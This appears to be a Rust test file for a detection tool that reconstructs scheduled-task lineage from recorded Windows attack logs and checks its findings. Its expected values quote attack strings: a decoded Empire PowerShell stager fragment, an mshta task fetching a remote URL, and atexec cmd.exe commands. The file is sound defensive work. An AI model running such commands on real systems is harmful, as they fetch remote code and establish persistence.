//! AN0258 lineage reconstructed from real exports, with exact expected values.
mod common;

use common::lineage::{detail, details};

use beaconstat::lineage::{
    CoverageGap, CreationMethod, DefinitionSource, LifeKind, Lineage, LineageBuilder, ProcessKey, ScheduledTask,
    TaskReason, TaskRole,
};
use beaconstat::winevent::TaskEventKind;
use beaconstat::{Interval, Timestamp};
use std::path::PathBuf;

fn lineage(files: &[PathBuf]) -> Lineage {
    let mut b = LineageBuilder::new();
    for f in files {
        let (_, skipped) = common::read_events(f, |rec| b.push_record(rec));
        assert_eq!(skipped, 0, "{}", f.display());
    }
    b.build()
}

fn ts(s: &str) -> Timestamp {
    Timestamp::parse_rfc3339(s).unwrap()
}

fn reasons(t: &ScheduledTask) -> Vec<TaskReason> {
    t.findings.iter().map(|f| f.reason).collect()
}

/// Case 3: remote COM modification of a built-in task (WORKSTATION6) and the full run chain
/// 108 → 129 → 100 → 200 → 201 → 102 of a built-in task joined to taskhostw.exe (WORKSTATION5).
#[test]
fn otrf_remote_modification_and_full_run_chain() {
    let Some(dir) = common::data("tasks_otrf") else { return };
    let lin = lineage(&[dir.join("schtask_modification_2020-12-1907505969.json")]);

    // Clocks: TimeCreated is local time labelled UTC, 5 h behind Sysmon UtcTime.
    assert_eq!(lin.clocks.len(), 2);
    for c in &lin.clocks {
        assert_eq!(c.correction, Interval::from_secs(5 * 3600), "{}", c.host);
    }
    assert!(
        lin.coverage
            .gaps
            .iter()
            .all(|g| matches!(g, CoverageGap::ClockDisagreement { .. }))
    );

    // The run chain on WORKSTATION5.
    let h5 = lin.host("WORKSTATION5.theshire.local").unwrap();
    let t = lin
        .task(
            "WORKSTATION5",
            r"\Microsoft\Windows\LanguageComponentsInstaller\Installation",
        )
        .unwrap();
    assert!(t.builtin);
    assert_eq!(t.creation.method, CreationMethod::PreExisting);
    assert!(t.findings.is_empty(), "built-in tasks are baseline");
    assert_eq!(t.runs.len(), 1);
    let r = &t.runs[0];
    assert_eq!(r.instance_id.as_deref(), Some("{0503ac85-e5db-4e1a-8659-3dc76a5c89ca}"));
    assert_eq!(r.events, [108, 129, 100, 200, 201, 102]);
    assert_eq!(r.trigger, Some(TaskEventKind::EventTriggered));
    assert_eq!(r.engine_pid, Some(1532));
    assert_eq!(r.path.as_deref(), Some("taskhostw.exe"));
    assert_eq!(r.action_name.as_deref(), Some("Language Components Installer"));
    assert_eq!(r.result_code.as_deref(), Some("0"));
    // 07:50:26.095 local = 12:50:26.095 UTC after the clock correction.
    assert_eq!(r.started, Some(ts("2020-12-19T12:50:26.095Z")));
    assert_eq!(r.ended, Some(ts("2020-12-19T12:50:26.667Z")));
    let p = &h5.processes[r.launched.unwrap()];
    assert_eq!(p.guid.as_deref(), Some("{67e11d8c-f712-5fdd-ad97-000000000700}"));
    assert_eq!(p.pid, Some(1532));
    assert_eq!(p.image.as_deref(), Some(r"C:\Windows\System32\taskhostw.exe"));
    assert_eq!(p.command_line.as_deref(), Some("taskhostw.exe Install $(Arg0)"));
    assert_eq!(
        p.parent_command_line.as_deref(),
        Some(r"C:\windows\system32\svchost.exe -k netsvcs -p -s Schedule")
    );
    assert_eq!(p.ts, ts("2020-12-19T12:50:26.098Z"));
    assert_eq!(r.processes, [r.launched.unwrap()]);
    assert_eq!(
        r.join.as_deref(),
        Some(
            "engine PID 1532 (TaskScheduler 129) = taskhostw.exe started 0.003 s from the run's first event; \
             parent is the Schedule service (svchost -s Schedule)"
        )
    );
    // The beacon-join lookup, by GUID and by PID.
    let link = lin
        .task_for_process("WORKSTATION5", "{67e11d8c-f712-5fdd-ad97-000000000700}", Timestamp::MAX)
        .unwrap();
    assert_eq!(link.role, TaskRole::Launched);
    assert_eq!(link.task.name, t.name);
    let link = lin
        .task_for_process("WORKSTATION5.theshire.local", 1532u32, ts("2020-12-19T12:51:00Z"))
        .unwrap();
    assert_eq!(
        link.run.and_then(|r| r.instance_id.as_deref()),
        r.instance_id.as_deref()
    );

    // The remote modification on WORKSTATION6.
    let t = lin
        .task(
            "WORKSTATION6.theshire.local",
            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
        )
        .unwrap();
    assert!(!t.builtin, "changed by a user over the network");
    assert_eq!(t.creation.method, CreationMethod::Remote);
    assert!(t.creation.remote);
    assert_eq!(t.creation.remote_source.as_deref(), Some("172.18.39.5"));
    assert_eq!(t.creation.user.as_deref(), Some(r"THESHIRE\pgustavo"));
    assert_eq!(t.creation.logon_id, Some(0xec0ba8f));
    let kinds: Vec<LifeKind> = t.life.iter().map(|l| l.what).collect();
    assert_eq!(kinds, [LifeKind::RegistryWritten, LifeKind::Updated, LifeKind::Updated]);
    assert_eq!(t.life[1].ts, ts("2020-12-19T12:50:49.220Z"));
    let d = t.definition.as_ref().unwrap();
    assert_eq!(t.definition_source, Some(DefinitionSource::Xml));
    assert!(d.truncated);
    assert_eq!(d.exec().map(|e| e.0), Some("powershell"));
    assert_eq!(t.period, None, "boot trigger");
    let r = reasons(t);
    for want in [
        TaskReason::RemoteCreation,
        TaskReason::BuiltinModified,
        TaskReason::EncodedPowerShell,
    ] {
        assert!(r.contains(&want), "{want:?} in {r:?}");
    }
    assert!(t.runs.is_empty(), "no run of the modified task inside the capture");
    // Who changed it, from where: the 4702's logon session is pgustavo's network logon.
    let u = &t.life[1];
    assert_eq!(
        (u.user.as_deref(), u.logon_id, u.remote, u.remote_source.as_deref()),
        (Some(r"THESHIRE\pgustavo"), Some(0xec0ba8f), true, Some("172.18.39.5"))
    );
    assert_eq!(u.who(), r"by THESHIRE\pgustavo (logon 0xec0ba8f) from 172.18.39.5");
    assert_eq!(t.life[0].image.as_deref(), Some(r"C:\windows\system32\svchost.exe"));
    // Only an update was seen (4702): the evidence says so.
    assert!(t.creation.by_update);
    assert_eq!(
        detail(t, TaskReason::RemoteCreation),
        "updated remotely from 172.18.39.5"
    );
    assert_eq!(
        detail(t, TaskReason::BuiltinModified),
        r"a built-in task path was updated by THESHIRE\pgustavo (logon 0xec0ba8f) from 172.18.39.5 at 2020-12-19T12:50:49.220000Z (Security 4702)"
    );
    // A built-in's path, running a bare `powershell` and authored by the user: masquerade.
    assert_eq!(
        detail(t, TaskReason::Masquerade),
        r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager is under \Microsoft\, but its action powershell is a bare name, not a path under System32 and its author THESHIRE\pgustavo is not Microsoft"
    );
    // The Empire stager's action: hidden window, and the encoded command decoded although the
    // 4702 XML was truncated inside it.
    assert_eq!(
        detail(t, TaskReason::HiddenWindow),
        "PowerShell runs with a hidden window (-w 1)"
    );
    let enc = detail(t, TaskReason::EncodedPowerShell);
    assert!(
        enc.starts_with("the action is PowerShell with an encoded command (-enc), decoded: IF($PSVErsioNTaBlE.PSVERSIoN.MaJor -gE 3){$C322=[REF].AsSeMBlY.GEtTyPe('System.Management.Automation.Utils')"),
        "{enc}"
    );
}

/// NXLog through Logstash (the Rubeus dataset): Security and TaskScheduler events carry only
/// the local `EventTime` (UTC-4, whole seconds) and the collector's `@timestamp` (1–2 s
/// late). Times come from the event, corrected by the host's offset to Sysmon `UtcTime` (or,
/// on the DC without Sysmon, to the collector); the lag is reported. Sysmon 1 lost its
/// `ProcessId` in this export: the 4688 of the same process gives it, one process each.
#[test]
fn otrf_local_event_time_collector_lag_and_merged_4688() {
    let Some(dir) = common::data("tasks_otrf") else { return };
    let lin = lineage(&[dir.join("empire_shell_rubeus_asktgt_createnetonly_2020-09-21230246.json")]);
    let clock = |host: &str| lin.clocks.iter().find(|c| c.host == host).unwrap();
    let four_hours = Interval::from_secs(4 * 3600);
    let c = clock("WORKSTATION6.theshire.local");
    assert_eq!(c.source, beaconstat::winevent::TimeSource::LocalTime);
    assert_eq!(c.median_skew, Some(Interval::from_micros(14_400_377_000)));
    assert_eq!((c.correction, c.samples, c.disagreeing), (four_hours, 1728, 0));
    // Its 151 Windows PowerShell 800 records name it `WORKSTATION6`: the same host (the only
    // FQDN with that name), so their collector times join its clock's (2313 + 151).
    assert_eq!(
        (c.collector_lag, c.collector_samples),
        (Some(Interval::from_micros(1_759_000)), 2464)
    );
    let hosts: Vec<_> = lin.hosts.iter().map(|h| h.host.as_str()).collect();
    assert_eq!(
        hosts,
        [
            "WORKSTATION6.theshire.local",
            "WORKSTATION5.theshire.local",
            "MORDORDC.theshire.local"
        ]
    );
    assert_eq!(lin.clocks.len(), 3, "no clock of its own for the bare name");
    // The DC has no Sysmon: the collector gives the zone, and its 2.2 s lag is reported.
    let dc = clock("MORDORDC.theshire.local");
    assert_eq!((dc.median_skew, dc.correction), (None, four_hours));
    assert_eq!(dc.collector_lag, Some(Interval::from_micros(2_237_000)));

    let t = lin
        .task(
            "WORKSTATION6.theshire.local",
            r"\Microsoft\Windows\UpdateOrchestrator\AC Power Download",
        )
        .unwrap();
    // EventTime 23:04:00 local, @timestamp 03:04:01.454Z: the event's own time, in UTC.
    let life: Vec<_> = t
        .life
        .iter()
        .filter(|l| l.source.starts_with("Security") || l.source.starts_with("TaskScheduler"))
        .map(|l| (l.what, l.ts, l.source.as_str()))
        .collect();
    assert_eq!(
        life,
        [
            (LifeKind::Created, ts("2020-09-22T03:04:00Z"), "Security 4698"),
            (LifeKind::Created, ts("2020-09-22T03:04:00Z"), "TaskScheduler 106"),
            (LifeKind::Deleted, ts("2020-09-22T03:04:01Z"), "Security 4699"),
            (LifeKind::Deleted, ts("2020-09-22T03:04:01Z"), "TaskScheduler 141"),
        ]
    );
    assert_eq!(t.creation.method, CreationMethod::ComApi);
    let h6 = lin.host("WORKSTATION6.theshire.local").unwrap();
    let creator = &h6.processes[t.creation.process.as_ref().unwrap().id];
    assert_eq!(creator.image.as_deref(), Some(r"C:\Windows\System32\usocoreworker.exe"));
    assert_eq!(creator.guid.as_deref(), Some("{d273d0f0-69a0-5f69-af0c-000000000800}"));
    assert_eq!(creator.pid, Some(0x1f98), "NewProcessId of the merged 4688");
    assert_eq!(creator.ts, ts("2020-09-22T03:04:00.087Z"));
    // The COM creator's signer, from the Sysmon 7 of its own image: Microsoft's, as expected
    // of the Update Orchestrator, so no COM-creator finding.
    let signer = creator.signer.as_ref().unwrap();
    assert!(signer.is_microsoft());
    assert_eq!(signer.to_string(), "signed by Microsoft Windows (Valid)");
    assert_eq!(
        t.creation.evidence.last().map(String::as_str),
        Some("usocoreworker.exe: signed by Microsoft Windows (Valid)")
    );
    assert!(
        !t.findings.iter().any(|f| matches!(
            f.reason,
            TaskReason::UntrustedComCreator | TaskReason::UnsignedComCreator
        )),
        "{:?}",
        t.findings
    );
    // Rubeus, run from a desktop, is not signed: its own Sysmon 7 says so.
    let rubeus = lin
        .hosts
        .iter()
        .flat_map(|h| h.processes.iter())
        .find(|(_, p)| p.image_name() == Some("Rubeus.exe"))
        .map(|(_, p)| p)
        .unwrap();
    assert_eq!(
        rubeus.signer.as_ref().map(ToString::to_string).as_deref(),
        Some("not signed (Signed false, SignatureStatus Unavailable)")
    );
    let usocoreworkers = h6
        .processes
        .iter()
        .filter(|(_, p)| p.image_name() == Some("usocoreworker.exe"))
        .count();
    assert_eq!(usocoreworkers, 1, "Sysmon 1 and 4688 of one process");
    assert_eq!(lin.coverage.merged_4688, 14);
    // With the PIDs and times right, the Schedule service's launches join their tasks.
    assert!(h6.unattributed_runs.is_empty());
    let uso = lin
        .task(
            "WORKSTATION6.theshire.local",
            r"\Microsoft\Windows\UpdateOrchestrator\Universal Orchestrator Start",
        )
        .unwrap();
    assert_eq!(
        uso.runs[0].join.as_deref(),
        Some(
            "engine PID 5460 (TaskScheduler 129) = UsoClient.exe started 0.011 s from the run's first event; \
             parent is the Schedule service (svchost -s Schedule)"
        )
    );
}

/// The same capture as it ships (a zip, through the reader layer) and unpacked: the same
/// lineage, field by field.
#[test]
fn otrf_zip_as_shipped_reads_as_the_unpacked_json() {
    let (Some(zipped), Some(dir)) = (common::data("otrf_empire_sysmon"), common::data("tasks_otrf")) else {
        return;
    };
    let from_zip = lineage(&[zipped.join("schtask_modification.zip")]);
    let from_json = lineage(&[dir.join("schtask_modification_2020-12-1907505969.json")]);
    assert_eq!(from_zip.coverage.records, 2657);
    assert_eq!(from_zip, from_json);
    let t = from_zip
        .task(
            "WORKSTATION6",
            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
        )
        .unwrap();
    assert_eq!(t.creation.remote_source.as_deref(), Some("172.18.39.5"));
}

/// `schtasks /create /S WORKSTATION6` on WORKSTATION5: the 4698 on WORKSTATION6 (ClientProcessId
/// 0, locality 0) is tied across hosts to the schtasks.exe that made it.
#[test]
fn otrf_remote_schtasks_creation_across_hosts() {
    let Some(dir) = common::data("tasks_otrf") else { return };
    let lin = lineage(&[dir.join("schtask_create_2020-12-1907003032.json")]);
    let t = lin
        .task(
            "WORKSTATION6",
            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
        )
        .unwrap();
    assert_eq!(t.creation.method, CreationMethod::Schtasks);
    assert!(t.creation.remote);
    assert_eq!(t.creation.remote_source.as_deref(), Some("172.18.39.5"));
    let pl = t.creation.process.as_ref().unwrap();
    assert_eq!(pl.host, "WORKSTATION5.theshire.local");
    let chain: Vec<_> = lin
        .creator_chain(t)
        .iter()
        .map(|(h, i)| h.processes[*i].image_name().unwrap_or("").to_owned())
        .collect();
    // cmd.exe's parent powershell.exe started before the capture: named, not in the data.
    assert_eq!(chain, ["schtasks.exe", "cmd.exe"]);
    let (h5, cmd) = lin.creator_chain(t)[1];
    assert_eq!(
        h5.processes[cmd].parent_image.as_deref(),
        Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
    );
    let creator = &lin.host(&pl.host).unwrap().processes[pl.id];
    assert_eq!(creator.pid, Some(8920));
    assert_eq!(creator.guid.as_deref(), Some("{67e11d8c-eb56-5fdd-2097-000000000700}"));
    assert!(reasons(t).contains(&TaskReason::ScriptHostCreator));
    let d = t.definition.as_ref().unwrap();
    assert_eq!(
        d.exec(),
        Some((
            r"C:\Windows\system32\cmd.exe",
            Some(r"/C C:\Windows\System32\notepad.exe")
        ))
    );
    // Under \Microsoft\ but authored by an account, started at boot, as SYSTEM through cmd.
    assert_eq!(
        details(t, TaskReason::BootOrLogonTrigger),
        ["starts at every boot (boot from 2020-12-19T07:00:00), and is not a Microsoft task"]
    );
    assert_eq!(
        details(t, TaskReason::SystemScriptHost),
        [r"runs as SYSTEM (S-1-5-18) through cmd.exe: C:\Windows\system32\cmd.exe /C C:\Windows\System32\notepad.exe"]
    );
    assert!(
        details(t, TaskReason::ElevatedUserWritable).is_empty(),
        "notepad in System32"
    );
    let link = lin
        .task_for_process("WORKSTATION5", "{67e11d8c-eb56-5fdd-2097-000000000700}", Timestamp::MAX)
        .unwrap();
    assert_eq!(link.role, TaskRole::Creator);
    assert_eq!(link.host.host, "WORKSTATION6.theshire.local");
}

/// The `.evtx` cases (decoded by the `evtx` dev-dependency, so they run without the feature).
mod evtx {
    use super::*;

    /// Case 1: atexec-style remote hidden task created and deleted within a second.
    #[test]
    fn atexec_remote_hidden_short_lived_task() {
        let Some(dir) = common::data("tasks_evtx_attack") else {
            return;
        };
        // The second file repeats two records of the first: they are counted once.
        let lin = lineage(&[
            dir.join("LM_ScheduledTask_ATSVC_target_host.evtx"),
            dir.join("temp_scheduled_task_4698_4699.evtx"),
        ]);
        assert_eq!(lin.coverage.duplicates, 2);
        assert_eq!(lin.coverage.records, 34);
        let h = lin.host("WIN-77LTAPHIQ1R.example.corp").unwrap();
        assert_eq!(h.tasks.len(), 1);
        let t = &h.tasks[0];
        assert_eq!(t.name, r"\CYAlyNSS");
        assert_eq!(t.creation.method, CreationMethod::Remote);
        assert!(t.creation.remote);
        assert_eq!(t.creation.remote_source.as_deref(), Some("10.0.2.17"));
        assert_eq!(t.creation.user.as_deref(), Some(r"EXAMPLE\Administrator"));
        assert_eq!(t.creation.logon_id, Some(0x17e2d2));
        assert!(t.creation.evidence.iter().any(|e| e.contains("atsvc")));
        // Created and deleted in the same remote logon session: no other-session finding.
        let sessions: Vec<_> = t.life.iter().map(|l| (l.what, l.logon_id, l.remote)).collect();
        assert_eq!(
            sessions,
            [
                (LifeKind::Created, Some(0x17e2d2), true),
                (LifeKind::Deleted, Some(0x17e2d2), true)
            ]
        );
        assert!(!reasons(t).contains(&TaskReason::DeletedFromOtherSession));
        assert!(t.hidden);
        assert!(t.short_lived);
        assert_eq!(t.created, Some(ts("2019-03-19T00:02:04.319945Z")));
        assert_eq!(t.deleted, Some(ts("2019-03-19T00:02:04.351252Z")));
        let d = t.definition.as_ref().unwrap();
        assert_eq!(
            d.exec(),
            Some(("cmd.exe", Some(r"/C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1")))
        );
        assert!(d.principal.is_system());
        assert_eq!(
            d.principal.describe(),
            "S-1-5-18 (SYSTEM), RunLevel HighestAvailable, LogonType InteractiveToken"
        );
        let hidden: Vec<_> = t.findings.iter().filter(|f| f.reason == TaskReason::Hidden).collect();
        assert_eq!(hidden[0].detail, "the task is hidden (Settings Hidden true)");
        let system: Vec<_> = t
            .findings
            .iter()
            .filter(|f| f.reason == TaskReason::SystemScriptHost)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(
            system,
            [r"runs as SYSTEM (S-1-5-18) through cmd.exe: cmd.exe /C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1"]
        );
        // The output file is in Temp, not what runs: no elevated-writable finding.
        assert!(!t.findings.iter().any(|f| f.reason == TaskReason::ElevatedUserWritable));
        // The run: cmd.exe (0xbcc) right after the 4698, then conhost and tasklist.
        assert_eq!(t.runs.len(), 1);
        let pids: Vec<_> = t.runs[0].processes.iter().map(|&i| h.processes[i].pid).collect();
        assert_eq!(pids, [Some(0xbcc), Some(0xebc), Some(0x970)]);
        let r = reasons(t);
        for want in [
            TaskReason::Hidden,
            TaskReason::RandomName,
            TaskReason::RemoteCreation,
            TaskReason::ShortLived,
            TaskReason::UserWritablePath,
        ] {
            assert!(r.contains(&want), "{want:?} in {r:?}");
        }
        // 4688 version 1 has no command lines.
        assert!(
            lin.coverage
                .gaps
                .contains(&CoverageGap::MissingCommandLines { without: 4, total: 4 })
        );
        assert!(lin.coverage.gaps.contains(&CoverageGap::NoSysmon1));
    }

    /// Case 1 again on the other lab: atexec's `cmd.exe /C whoami > C:\Windows\Temp\….tmp 2>&1`.
    #[test]
    fn atexec_mitre_global() {
        let Some(dir) = common::data("tasks_evtx_mitre") else {
            return;
        };
        let lin = lineage(&[dir.join("ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation__GLOBAL_.evtx")]);
        let t = lin.task("fs01", "bouWFQYO").unwrap();
        assert_eq!(t.creation.method, CreationMethod::Remote);
        assert_eq!(t.creation.remote_source.as_deref(), Some("10.23.123.11"));
        assert!(t.hidden && t.short_lived);
        assert_eq!(
            t.deleted.zip(t.created).map(|(d, c)| d - c),
            Some(Interval::from_micros(22_926))
        );
        let h = lin.host("fs01.offsec.lan").unwrap();
        let r = &t.runs[0];
        let p = &h.processes[r.launched.unwrap()];
        assert_eq!(p.pid, Some(976));
        assert_eq!(
            p.command_line.as_deref(),
            Some(r"cmd.exe /C whoami > C:\Windows\Temp\bouWFQYO.tmp 2>&1")
        );
        assert_eq!(p.parent_image.as_deref(), Some(r"C:\Windows\System32\svchost.exe"));
        let images: Vec<_> = r
            .processes
            .iter()
            .map(|&i| h.processes[i].image_name().unwrap())
            .collect();
        assert_eq!(images, ["cmd.exe", "conhost.exe", "whoami.exe"]);
        assert!(
            t.findings
                .iter()
                .any(|f| f.reason == TaskReason::ScriptHost && f.process == r.launched)
        );
        let writable: Vec<_> = t
            .findings
            .iter()
            .filter(|f| f.reason == TaskReason::UserWritablePath)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(
            writable,
            [
                r"the action uses a path under Temp: %windir%\Temp\bouWFQYO.tmp",
                r"cmd.exe uses a path under Temp: C:\Windows\Temp\bouWFQYO.tmp"
            ]
        );
        let link = lin
            .task_for_process("fs01", 5188u32, ts("2021-06-10T21:21:27Z"))
            .unwrap();
        assert_eq!(link.role, TaskRole::Descendant);
        assert_eq!(link.task.name, r"\bouWFQYO");
    }

    /// Case 2: `schtasks /SC MINUTE /MO 60` running mshta against a URL; the creator chain's
    /// mshta.exe made the Sysmon 3 connections.
    #[test]
    fn schtasks_mshta_every_60_minutes() {
        let Some(dir) = common::data("tasks_evtx_attack") else {
            return;
        };
        let lin = lineage(&[dir.join("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx")]);
        let t = lin.task("IEWIN7", r"\MSOFFICE_").unwrap();
        assert_eq!(t.creation.method, CreationMethod::Schtasks);
        assert_eq!(t.creation.user.as_deref(), Some(r"IEWIN7\IEUser"));
        assert_eq!(t.definition_source, Some(DefinitionSource::CommandLine));
        assert_eq!(t.period, Some(Interval::from_secs(3600)));
        let d = t.definition.as_ref().unwrap();
        assert_eq!(
            d.exec(),
            Some(("mshta.exe", Some("https://hotelesms.com/Injection.txt")))
        );
        assert_eq!(
            t.findings
                .iter()
                .find(|f| f.reason == TaskReason::Lolbin)
                .map(|f| f.detail.as_str()),
            Some("the action runs mshta.exe, a LOLBin: mshta.exe https://hotelesms.com/Injection.txt")
        );
        let kinds: Vec<_> = t.life.iter().map(|l| (l.what, l.ts)).collect();
        assert_eq!(
            kinds,
            [
                (LifeKind::Created, ts("2019-05-21T15:32:59.729Z")),
                (LifeKind::FileWritten, ts("2019-05-21T15:32:59.809Z"))
            ]
        );
        let chain: Vec<_> = lin
            .creator_chain(t)
            .iter()
            .map(|(h, i)| (h.processes[*i].image_name().unwrap().to_owned(), h.processes[*i].pid))
            .collect();
        assert_eq!(
            chain,
            [
                ("schtasks.exe".to_owned(), Some(3772)),
                ("mshta.exe".to_owned(), Some(2432)),
                ("rundll32.exe".to_owned(), Some(2920)),
                ("cmd.exe".to_owned(), Some(1532)),
            ]
        );
        let conns: Vec<_> = lin
            .creator_connections(t)
            .iter()
            .map(|c| (&*c.dst, c.dst_port, c.name.as_deref()))
            .collect();
        assert_eq!(
            conns,
            [
                ("108.179.232.58", Some(443), Some("gator4243.hostgator.com")),
                ("105.73.6.112", Some(80), Some("aka112.inwitelecom.net")),
                ("105.73.6.105", Some(80), Some("aka105.inwitelecom.net")),
            ]
        );
        // The beaconing mshta.exe → the task it had created, with its period.
        let link = lin
            .task_for_process("IEWIN7", "{365abb72-1a29-5ce4-0000-001079f92101}", Timestamp::MAX)
            .unwrap();
        assert_eq!(link.role, TaskRole::CreatorAncestor);
        assert_eq!(link.task.name, r"\MSOFFICE_");
        assert_eq!(link.period(), Some(Interval::from_secs(3600)));
        assert_eq!(link.method(), CreationMethod::Schtasks);
        assert_eq!(link.creator_user(), Some(r"IEWIN7\IEUser"));
        assert_eq!(link.created(), Some(ts("2019-05-21T15:32:59.729Z")));
        // By image name alone (telemetry without GUID or PID).
        let by_image = lin
            .task_for_process("IEWIN7", ProcessKey::Image("mshta.exe"), Timestamp::MAX)
            .unwrap();
        assert_eq!(by_image.task.name, r"\MSOFFICE_");
        // Straight from the Sysmon 3 records: each of mshta's connections leads to the task.
        let mut n = 0;
        common::read_events(
            &dir.join("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"),
            |rec| {
                if let Some(c) = beaconstat::winevent::sysmon_conn_event(rec) {
                    let link = lin.task_for_conn(&c).unwrap();
                    assert_eq!(
                        (link.task.name.as_str(), link.role),
                        (r"\MSOFFICE_", TaskRole::CreatorAncestor)
                    );
                    n += 1;
                }
            },
        );
        assert_eq!(n, 3);
        let r = reasons(t);
        assert!(
            r.contains(&TaskReason::Lolbin) && r.contains(&TaskReason::ScriptHostCreator),
            "{r:?}"
        );
        // Sysmon 3's UtcTime is ~8.5 h off TimeCreated on this host: reported, not corrected.
        let c = &lin.clocks[0];
        assert_eq!(
            (c.host.as_str(), c.disagreeing, c.correction),
            ("IEWIN7", 3, Interval::ZERO)
        );
        assert!(lin.coverage.gaps.contains(&CoverageGap::NoTaskEvents));
    }

    /// Case 4: Windows 7 chain, taskeng.exe {GUID} S-1-5-18 → cmd.exe as SYSTEM.
    #[test]
    fn windows7_taskeng_chain() {
        let Some(dir) = common::data("tasks_evtx_attack") else {
            return;
        };
        let lin = lineage(&[dir.join("sysmon_1_11_exec_as_system_via_schedtask.evtx")]);
        let h = lin.host("IEWIN7").unwrap();
        let t = lin.task("IEWIN7", "elevator").unwrap();
        assert_eq!(t.creation.method, CreationMethod::Schtasks);
        let creator = &h.processes[t.creation.process.as_ref().unwrap().id];
        assert_eq!(creator.pid, Some(3876));
        assert_eq!(creator.parent_image.as_deref(), Some(r"C:\Python27\python.exe"));
        let kinds: Vec<_> = t
            .life
            .iter()
            .map(|l| {
                (
                    l.what,
                    l.user.as_deref(),
                    l.image.as_deref().map(|i| i.rsplit('\\').next().unwrap_or(i)),
                )
            })
            .collect();
        let ie = Some(r"IEWIN7\IEUser");
        assert_eq!(
            kinds,
            [
                (LifeKind::Created, ie, Some("schtasks.exe")),
                (LifeKind::FileWritten, None, Some("svchost.exe")),
                (LifeKind::RunRequested, ie, Some("schtasks.exe")),
                (LifeKind::Deleted, ie, Some("schtasks.exe"))
            ]
        );
        assert!(t.short_lived);
        assert_eq!(t.runs.len(), 1);
        let r = &t.runs[0];
        let p = &h.processes[r.launched.unwrap()];
        assert_eq!(p.guid.as_deref(), Some("{365abb72-69a3-5cd7-0000-00109d7f2200}"));
        assert_eq!(p.pid, Some(1860));
        assert_eq!(p.user.as_deref(), Some(r"NT AUTHORITY\SYSTEM"));
        assert_eq!(
            p.parent_command_line.as_deref(),
            Some(r"taskeng.exe {9C7BC894-6658-423B-9B58-61636DBB1451} S-1-5-18:NT AUTHORITY\System:Service:")
        );
        assert_eq!(r.started, Some(ts("2019-05-12T00:32:35.289Z")));
        let join = r.join.as_deref().unwrap();
        assert!(join.contains("schtasks /run") && join.contains("taskeng.exe"), "{join}");
        assert!(
            reasons(t).contains(&TaskReason::ScriptHostCreator),
            "python.exe made it"
        );
        let link = lin
            .task_for_process("IEWIN7", "{365abb72-69a3-5cd7-0000-00109d7f2200}", Timestamp::MAX)
            .unwrap();
        assert_eq!((link.role, link.task.name.as_str()), (TaskRole::Launched, r"\elevator"));
    }

    /// A COM-handler task run with no task events: reported as a run not tied to a task,
    /// svchost Schedule → taskhostw.exe → cmd.exe.
    #[test]
    fn com_handler_run_without_task_events() {
        let Some(dir) = common::data("tasks_evtx_attack") else {
            return;
        };
        let lin = lineage(&[dir.join("sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx")]);
        let h = lin.host("LAPTOP-JU4M3I0E").unwrap();
        assert!(h.tasks.is_empty());
        assert_eq!(h.unattributed_runs.len(), 1);
        let images: Vec<_> = h.unattributed_runs[0]
            .processes
            .iter()
            .map(|&i| h.processes[i].image_name().unwrap())
            .collect();
        assert_eq!(images, ["taskhostw.exe", "cmd.exe"]);
        assert!(h.unattributed_runs[0].candidates.is_empty(), "no task events at all");
    }

    /// `schtasks /create /sc minute /mo 1 /ru SYSTEM` (4688) + its 4698 with `PT1M`; and `at`.
    #[test]
    fn mitre_every_minute_system_task_and_at() {
        let Some(dir) = common::data("tasks_evtx_mitre") else {
            return;
        };
        let lin = lineage(&[
            dir.join("ID4688-4698_Persistent_scheduled_task_with_SYSTEM_privileges_creation.evtx"),
            dir.join("ID4688-Interactive_shell_using_AT_schedule_task.evtx"),
        ]);
        let t = lin.task("srvdefender01.offsec.lan", "eviltask").unwrap();
        assert_eq!(t.creation.method, CreationMethod::Schtasks);
        assert_eq!(t.creation.user.as_deref(), Some(r"OFFSEC\admmig"));
        assert_eq!(t.creation.logon_id, Some(0x6fc89e));
        let h = lin.host("srvdefender01").unwrap();
        let creator = &h.processes[t.creation.process.as_ref().unwrap().id];
        assert_eq!(creator.pid, Some(0x15b4));
        assert_eq!(
            creator.parent_image.as_deref(),
            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        );
        assert_eq!(t.definition_source, Some(DefinitionSource::Xml));
        assert_eq!(t.period, Some(Interval::from_secs(60)));
        assert!(t.definition.as_ref().unwrap().principal.is_system());
        let r = reasons(t);
        assert!(
            r.contains(&TaskReason::ShortRepetition) && r.contains(&TaskReason::ScriptHostCreator),
            "{r:?}"
        );
        let system = t
            .findings
            .iter()
            .find(|f| f.reason == TaskReason::SystemScriptHost)
            .unwrap();
        assert_eq!(
            system.detail,
            r"runs as SYSTEM (S-1-5-18) through shell.cmd: C:\tools\shell.cmd"
        );
        let kinds: Vec<_> = t.life.iter().map(|l| (l.what, l.source.as_str())).collect();
        assert_eq!(
            kinds,
            [
                (LifeKind::Created, "schtasks /create"),
                (LifeKind::Created, "Security 4698")
            ]
        );

        let at = lin.task("fs01.offsec.lan", r"\At").unwrap();
        assert_eq!(at.creation.method, CreationMethod::At);
        assert_eq!(at.definition.as_ref().and_then(|d| d.exec()), Some(("cmd", None)));
    }
}
